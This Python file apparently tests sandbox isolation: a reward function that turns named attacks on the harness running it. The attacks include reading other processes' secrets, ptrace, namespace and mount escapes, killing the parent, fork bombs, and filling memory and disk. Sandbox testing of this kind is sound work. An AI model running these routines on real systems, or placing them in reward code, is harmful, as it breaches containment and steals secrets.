"""A reward function that attacks what runs it. The answer names the attack, `extra_info` says where the prey is.

It returns what it got as `got`: an empty list if the attack failed.
"""

import contextlib
import ctypes
import os
import signal
import socket
import subprocess
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNET, CLONE_NEWNS, CLONE_NEWUSER = 0x40000000, 0x20000, 0x10000000
PTRACE_ATTACH = 16
DETACH, REMOUNT_WRITABLE = 2, 0x20 | 0x1000


def compute_score(data_source, solution_str, ground_truth, extra_info):
    if solution_str == "good":
        return 1.0
    return {"score": 0.5, "got": globals()[solution_str](extra_info)}


def _others():
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]


def _works(action, *arguments):
    try:
        return bool(action(*arguments))
    except OSError:
        return False


def _read(path):
    with open(path, "rb") as file:
        return file.read(1 << 16)


def _write(path, text="x"):
    with open(path, "w") as file:
        return file.write(text)


def _open_for_writing(path):
    with open(path, "r+b"):
        return True


def _killed(pid, number):
    os.kill(pid, number)


def environment_of_others(prey):
    def holds_secret(path):
        return prey["secret"].encode() in _read(path)

    return [pid for pid in _others() if _works(holds_secret, f"/proc/{pid}/environ")]


def own_environment(prey):
    return [name for name, value in os.environ.items() if prey["secret"] in value]


def memory_of_others(prey):
    return [pid for pid in _others() if _works(_open_for_writing, f"/proc/{pid}/mem")]


def _connects(family, address):
    with socket.socket(family) as connection:
        connection.settimeout(2)
        connection.connect(address)
        return True


def sockets(prey):
    targets = [
        (socket.AF_UNIX, prey["socket"]),
        (socket.AF_UNIX, "\0" + prey["abstract"]),
        (socket.AF_INET, ("127.0.0.1", prey["port"])),
    ]
    return [str(address) for family, address in targets if _works(_connects, family, address)]


def network_of_others(prey):
    def enter(pid):
        with open(f"/proc/{pid}/ns/net") as namespace:
            return libc.setns(namespace.fileno(), CLONE_NEWNET) == 0

    return [pid for pid in _others() if _works(enter, pid)] + sockets(prey)


def traced(prey):
    return [pid for pid in _others() if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0]


def outlived(prey):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execve("/bin/sleep", ["sleep", prey["marker"]], {})
        os._exit(0)
    return []


def forks(prey):
    made = 0
    for _ in range(200):
        if os.fork() == 0:
            time.sleep(1000)
            os._exit(0)
        made += 1
    return [made]


def memory_of_children(prey):
    code = "import time; held = bytearray(b'x') * (700 << 20); print(1, flush=True); time.sleep(1000)"
    children = [subprocess.Popen([sys.executable, "-S", "-c", code], stdout=subprocess.PIPE) for _ in range(3)]
    told = [child.stdout.readline().decode() for child in children]
    time.sleep(1000)  # until a look at the memory ends it
    return told


def nameless_memory(prey):
    block, libc.shmat.restype = bytes(16 << 20), ctypes.c_void_p
    for _ in range(6):
        file, segment = os.memfd_create("hidden"), libc.shmget(0, 256 << 20, 0o600)
        for _ in range(16):
            os.write(file, block)
        at = libc.shmat(segment, None, 0)
        ctypes.memset(at, 1, 256 << 20)
        libc.shmdt(ctypes.c_void_p(at))
    time.sleep(1000)  # until a look at the memory ends it


def stops(prey):
    for pid in (os.getppid(), *_others()):
        _works(_killed, pid, signal.SIGSTOP)
    time.sleep(1000)


def stops_and_answers(prey):
    for pid in (os.getppid(), *_others()):
        _works(_killed, pid, signal.SIGSTOP)
    return []


def signals(prey):
    for pid in (os.getppid(), *_others()):
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGCHLD, signal.SIGKILL):
            _works(_killed, pid, number)
    return []


def files_read(prey):
    return [path for path in prey["private"] if _works(os.listdir if os.path.isdir(path) else _read, path)]


def files_written(prey):
    folders = [prey["state"], os.path.dirname(__file__), prey["package"], "/", "/usr", "/etc", "/dev", "/proc", "/var"]
    return [folder for folder in folders if _works(_write, os.path.join(folder, prey["marker"]))]


def shared_memory(prey):
    _works(_write, f"/dev/shm/{prey['marker']}-mine")
    return [name for name in os.listdir("/dev/shm") if name == prey["marker"]]


def huge_file(prey):
    block, written = b"x" * (16 << 20), 0
    with open("/tmp/huge", "wb", buffering=0) as file:
        while written < prey["huge"]:
            written += file.write(block)
    os.remove("/tmp/huge")
    return [written]


def namespaces(prey):
    """Gains the rights of a namespace's root, and tries to undo the tree of files with them."""
    pid = os.fork()
    if pid == 0:
        user = os.getuid()
        if opened := libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
            _works(_write, "/proc/self/setgroups", "deny")
            _works(_write, "/proc/self/uid_map", f"0 {user} 1")
            for path in ("/dev/shm", "/tmp", os.path.dirname(__file__), "/usr", "/proc", "/"):
                libc.umount2(path.encode(), DETACH)
                libc.mount(None, path.encode(), None, ctypes.c_ulong(REMOUNT_WRITABLE), None)
        os._exit(opened + len(files_read(prey)) + len(files_written(prey)))
    got = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    return [got] if got else []


def descriptors(prey):
    names = []
    for number in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            names.append(os.readlink(f"/proc/self/fd/{number}"))
    return [name for name in names if not name.startswith(("pipe:", "/dev/null", "/proc"))]


def endless_output(prey):
    for _ in range(64):
        os.write(2, b"y" * (1 << 20))
    return []
